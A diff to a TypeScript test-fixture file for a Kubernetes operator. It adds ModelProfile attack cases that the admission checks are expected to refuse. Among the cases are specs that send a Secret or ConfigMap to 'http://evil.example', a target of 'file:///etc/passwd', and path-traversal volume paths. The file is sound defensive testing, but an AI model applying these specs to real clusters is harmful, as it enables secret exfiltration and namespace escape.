@@ -6,6 +6,8 @@
 /** A spec laid over a sound one; `ATTACK` in it marks what must never be stored or reach an InferenceService. */
 export interface Attack {
   readonly name: string;
+  /** Default ModelDeployment. */
+  readonly kind?: 'ModelProfile';
   readonly spec: Readonly<Record<string, unknown>>;
   readonly metadata?: Readonly<Record<string, unknown>>;
 }
@@ -16,6 +18,7 @@ export interface RefusedAttack extends Attack {
 }
 
 const sound = { runtime: { type: 'SKLearn' }, deploymentMode: 'Standard', source: { storageUri: 'gs://bucket/iris' } };
+const soundProfile = { target: { modelDeployment: 'iris' }, sweep: { concurrency: [1] } };
 const transformer = (more: object = {}) => ({ transformer: { image: 'ghcr.io/acme/transform:1', ...more } });
 const annotation = (key: string) => ({ podMetadata: { annotations: { [key]: 'ATTACK' } } });
 const label = (key: string) => ({ podMetadata: { labels: { [key]: 'ATTACK' } } });
@@ -23,9 +26,9 @@ const label = (key: string) => ({ podMetadata: { labels: { [key]: 'ATTACK' } } }
 export function attacker(attack: Attack, name: string, namespace: string): object {
   return {
     apiVersion: 'modelwright.dev/v1alpha1',
-    kind: 'ModelDeployment',
+    kind: attack.kind ?? 'ModelDeployment',
     metadata: { ...attack.metadata, name, namespace },
-    spec: { ...sound, ...attack.spec },
+    spec: { ...(attack.kind === 'ModelProfile' ? soundProfile : sound), ...attack.spec },
   };
 }
 
@@ -73,6 +76,16 @@ export const dropped: readonly Attack[] = [
   { name: 'a privileged transformer', spec: transformer({ securityContext: { capabilities: { add: ['ATTACK'] } } }) },
   { name: 'a port of the node for a transformer', spec: transformer({ ports: [{ containerPort: 1, hostPort: 22, name: 'ATTACK' }] }) },
   { name: 'a hook in a transformer', spec: transformer({ lifecycle: { postStart: { exec: { command: ['ATTACK'] } } } }) },
+  { name: 'a pod of load with the network of the node', kind: 'ModelProfile', spec: { hostNetwork: 'ATTACK' } },
+  { name: 'an image of load', kind: 'ModelProfile', spec: { image: 'ATTACK' } },
+  { name: 'a service account of load', kind: 'ModelProfile', spec: { serviceAccountName: 'ATTACK' } },
+  { name: 'a template of the Job', kind: 'ModelProfile', spec: { jobTemplate: { spec: 'ATTACK' } } },
+  { name: 'a target of another namespace', kind: 'ModelProfile', spec: { target: { modelDeployment: 'iris', namespace: 'ATTACK' } } },
+  {
+    name: 'a token of another namespace',
+    kind: 'ModelProfile',
+    spec: { target: { modelDeployment: 'iris', tokenSecretRef: { name: 'x', key: 'y', namespace: 'ATTACK' } } },
+  },
 ];
 
 /** Refused by the CRD itself, whoever asks and whatever else is installed. */
@@ -156,6 +169,40 @@ export const refusedBySchema: readonly RefusedAttack[] = [
   { name: 'a blank in the image of a transformer', spec: transformer({ image: 'x --y' }), words: /spec\.transformer\.image/ },
   { name: 'a variable that is none', spec: transformer({ env: [{ name: 'A=B', value: 'x' }] }), words: /spec\.transformer\.env/ },
   { name: 'a key with a newline', spec: { scheduling: { nodeSelector: { 'a\nb': 'x' } } }, words: /spec\.scheduling\.nodeSelector/ },
+  {
+    name: 'a target that is no web server',
+    kind: 'ModelProfile',
+    spec: { target: { url: 'file:///etc/passwd' } },
+    words: /spec\.target\.url/,
+  },
+  {
+    name: 'a password in a target',
+    kind: 'ModelProfile',
+    spec: { target: { url: 'http://user:secret@host' } },
+    words: /spec\.target\.url/,
+  },
+  {
+    name: 'a target of another namespace by a path',
+    kind: 'ModelProfile',
+    spec: { target: { modelDeployment: 'team-b/iris' } },
+    words: /spec\.target\.modelDeployment/,
+  },
+  {
+    name: 'a Secret of another namespace as a token',
+    kind: 'ModelProfile',
+    spec: { target: { modelDeployment: 'iris', tokenSecretRef: { name: 'team-b/x', key: 'y' } } },
+    words: /spec\.target\.tokenSecretRef\.name/,
+  },
+  {
+    name: 'a claim of another namespace',
+    spec: { source: { volume: { claimName: '../payroll' } } },
+    words: /spec\.source\.volume\.claimName/,
+  },
+  {
+    name: 'a way out of the volume',
+    spec: { source: { volume: { claimName: 'models', path: '../../etc' } } },
+    words: /spec\.source\.volume\.path/,
+  },
 ];
 
 /** What somebody who may create Pods could do without us; who may not is refused at admission. */
@@ -170,6 +217,23 @@ export const refusedToAuthors: readonly RefusedAttack[] = [
   },
   { name: 'a volume', spec: { source: { storageUri: 'pvc://payroll/2026' } }, words: /may not have the volume "payroll" mounted/ },
   { name: 'a whole volume', spec: { source: { storageUri: 'pvc://payroll' } }, words: /may not have the volume "payroll" mounted/ },
+  {
+    name: 'a volume to be packaged and read back',
+    spec: { source: { volume: { claimName: 'payroll' } } },
+    words: /may not have the volume "payroll" mounted/,
+  },
+  {
+    name: 'to have a Secret sent to a server of their own',
+    kind: 'ModelProfile',
+    spec: { target: { url: 'http://evil.example', tokenSecretRef: { name: 'payroll', key: 'x' } } },
+    words: /neither read the Secret "payroll"/,
+  },
+  {
+    name: 'to have a ConfigMap sent to a server of their own',
+    kind: 'ModelProfile',
+    spec: { target: { url: 'http://evil.example' }, payload: { configMapKeyRef: { name: 'plans', key: 'x' } } },
+    words: /neither read the ConfigMap "plans"/,
+  },
   { name: 'a container of their own', spec: transformer(), words: /may not bring a container of your own/ },
   { name: 'to leave the service mesh', spec: annotation('sidecar.istio.io/inject'), words: /which other programs act on/ },
   {
